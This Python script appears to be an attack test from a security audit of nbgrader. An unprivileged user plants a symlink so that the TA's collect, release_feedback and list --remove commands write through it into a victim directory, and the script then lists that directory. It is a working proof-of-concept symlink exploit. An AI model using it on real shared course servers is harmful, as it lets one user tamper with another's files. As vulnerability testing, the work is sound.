"""a09: a03's variant B through the TA's other exchange commands: `nbgrader collect ps1_memory` (SafeCollect, what
Formgrader's Collect button runs), `nbgrader release_feedback ps1_memory` and `nbgrader list --remove ps1_memory`
(Unrelease), each with a fresh missing root under mallory's own folder /tmp/a47nbw/<cmd>/x/exchange, x -> VICTIM."""
import os, subprocess, shutil, sys
from harness import *
d = course("a09")
BASE = "/tmp/a47nbw"; shutil.rmtree(BASE, ignore_errors=True)
subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "mkdir", "-m", "755", BASE], check=True)
for cmd in (["collect", "ps1_memory"], ["release_feedback", "ps1_memory"], ["list", "--remove", "ps1_memory"]):
    tag = cmd[0] + ("-remove" if "--remove" in cmd else "")
    victim = f"tests/attacks/round47/a09_victim_{tag}"; shutil.rmtree(victim, ignore_errors=True); os.makedirs(victim, 0o755)
    subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c",
                    f"import os; os.mkdir('{BASE}/{tag}'); os.symlink('{victim}', '{BASE}/{tag}/x')"], check=True)
    root = f"{BASE}/{tag}/x/exchange"
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", *cmd, "--Exchange.root=" + root, "--CourseDirectory.course_id=distcourse"],
                       cwd=d, env=ENV, capture_output=True, text=True)
    crit = [l for l in (r.stdout + r.stderr).splitlines() if "CRITICAL" in l or "creating" in l]
    print(f"$ nbgrader {' '.join(cmd)} (root {root}) -> rc {r.returncode}")
    for l in crit: print("   ", l[:220])
    print("    VICTIM now:", subprocess.run(["ls", "-la", victim], capture_output=True, text=True).stdout.replace("\n", "\n    "))
shutil.rmtree(BASE); shutil.rmtree(d)
